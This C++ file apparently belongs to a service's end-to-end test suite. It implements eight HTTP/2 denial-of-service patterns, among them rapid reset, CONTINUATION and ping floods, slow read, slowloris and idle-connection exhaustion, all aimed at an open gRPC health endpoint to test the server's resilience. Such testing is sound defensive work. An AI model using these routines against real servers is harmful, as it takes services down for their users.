#include "tests/e2e/abuse_patterns.h"

#include <algorithm>

#include "tests/support/http2_frames.h"

namespace loyalty::test {
namespace {

using http2::Frame;
using http2::Type;
using std::chrono::milliseconds;

constexpr int kFramesPerBurst = 100;
constexpr std::uint8_t kWhole = http2::kEndHeaders | http2::kEndStream;
// Anybody may call it: no key is needed to make the server work for an answer.
constexpr const char* kOpenToAll = "/grpc.health.v1.Health/Check";

// What most patterns are: a hello, and then one burst after the other for as long as the server listens.
void Repeat(Attacker& attacker, const std::function<std::function<std::string()>()>& new_connection) {
  attacker.Ready();
  while (!attacker.stopping()) {
    const auto connection = attacker.Connect();
    if (connection && connection->Send(http2::Hello())) attacker.Flood(*connection, new_connection());
  }
}

std::string Times(int count, const std::string& bytes) {
  std::string out;
  for (int i = 0; i < count; ++i) out += bytes;
  return out;
}

// Calls that are cancelled as soon as they are made: none counts against the limit of concurrent streams, each is work.
void RapidReset(Attacker& attacker) {
  Repeat(attacker, [] {
    return [stream = 1U, fields = http2::RequestFields(kOpenToAll)]() mutable {
      std::string burst;
      for (int i = 0; i < kFramesPerBurst; ++i, stream += 2)
        burst += Frame(Type::kHeaders, kWhole, stream, fields) + http2::Reset(stream);
      return burst;
    };
  });
}

// One header field of a gigabyte.
void EndlessHeader(Attacker& attacker) {
  Repeat(attacker, [] {
    return [begun = false]() mutable {
      const std::string more(http2::kPayloadMax, 'a');
      if (begun) return Frame(Type::kContinuation, 0, 1, more);
      begun = true;
      return Frame(Type::kHeaders, 0, 1, http2::RequestFields(kOpenToAll) + http2::FieldBegin("x-endless", 1 << 30));
    };
  });
}

// Small fields without end, none of them too large.
void ContinuationFlood(Attacker& attacker) {
  Repeat(attacker, [] {
    return [begun = false]() mutable {
      if (begun) return Times(kFramesPerBurst, Frame(Type::kContinuation, 0, 1, http2::Field("x-n", "1")));
      begun = true;
      return Frame(Type::kHeaders, 0, 1, http2::RequestFields(kOpenToAll));
    };
  });
}

// Each asks for an answer.
void PingFlood(Attacker& attacker) {
  Repeat(attacker,
         [] { return [burst = Times(kFramesPerBurst, Frame(Type::kPing, 0, 0, "12345678"))] { return burst; }; });
}

void SettingsFlood(Attacker& attacker) {
  Repeat(attacker, [] {
    // SETTINGS_INITIAL_WINDOW_SIZE 65535: the server has to look at every stream it has.
    const std::string settings = Frame(Type::kSettings, 0, 0, {"\0\4\0\0\xff\xff", 6});
    return [burst = Times(kFramesPerBurst, settings)] { return burst; };
  });
}

// Answers that nobody takes: no window for their bodies, no reader for their heads.
void SlowRead(Attacker& attacker) {
  constexpr std::size_t kConnections = 32;
  constexpr std::uint32_t kStreams = 1'000;
  std::string requests = http2::Hello({{http2::kInitialWindowSize, 0}});
  for (std::uint32_t stream = 1; stream < 2 * kStreams; stream += 2)
    requests += Frame(Type::kHeaders, http2::kEndHeaders, stream, http2::RequestFields(kOpenToAll)) +
                Frame(Type::kData, http2::kEndStream, stream, http2::EmptyMessage());
  struct Slow {
    std::unique_ptr<RawConnection> connection;
    std::size_t sent = 0;
  };
  std::vector<Slow> all(kConnections);
  attacker.TakeLittle();
  for (attacker.Ready(); !attacker.stopping(); attacker.Wait(milliseconds(20)))
    for (auto& slow : all) {
      if (!slow.connection || !slow.connection->open()) slow = {attacker.Connect(), 0};
      if (slow.connection) slow.sent += slow.connection->SendSome(std::string_view(requests).substr(slow.sent));
      if (attacker.stopping()) break;
    }
}

// A byte now and then of something that never ends: of a request, or of a handshake where there is no other way in.
void Slowloris(Attacker& attacker) {
  constexpr std::size_t kConnections = 500;
  // A record of TLS that holds a ClientHello of 16 kB.
  const std::string handshake("\x16\x03\x01\x40\x00\x01\x00\x3f\xfc\x03\x03", 11);
  const std::string request =
      http2::Hello() + Frame(Type::kHeaders, kWhole, 1, std::string(http2::kPayloadMax, 'a')).substr(0, 9);
  const std::string& begin = attacker.dial().tls ? request : handshake;
  std::vector<std::unique_ptr<RawConnection>> all(kConnections);
  for (attacker.Ready(); !attacker.stopping(); attacker.Wait(milliseconds(200)))
    for (auto& slow : all) {
      if (attacker.stopping()) break;
      if (slow && slow->open()) {
        slow->SendSome("a");
        slow->Drain();
      } else if (slow = attacker.Connect(); slow) {
        slow->SendSome(begin);
      }
    }
}

// Connections that say nothing, or nothing after the hello.
void Idle(Attacker& attacker) {
  std::vector<std::unique_ptr<RawConnection>> all(static_cast<std::size_t>(attacker.connections_max()));
  for (auto& idle : all) {
    if (attacker.stopping()) return;
    idle = attacker.ConnectNow();
    if (idle && attacker.dial().tls) idle->SendSome(http2::Hello());
  }
  // What the server closes is opened again.
  for (attacker.Ready(); !attacker.stopping(); attacker.Wait(milliseconds(100)))
    for (auto& idle : all) {
      if (attacker.stopping()) return;
      if (!idle || !idle->Drain()) idle = attacker.Connect();
    }
}

}  // namespace

const std::vector<Pattern>& AbusePatterns() {
  static const std::vector<Pattern> patterns{{"rapid reset", RapidReset, true},
                                             {"endless header", EndlessHeader, true},
                                             {"CONTINUATION flood", ContinuationFlood, true},
                                             {"ping flood", PingFlood, true},
                                             {"settings flood", SettingsFlood, true},
                                             {"slow read", SlowRead},
                                             {"slowloris", Slowloris},
                                             {"idle connections", Idle}};
  return patterns;
}

}  // namespace loyalty::test
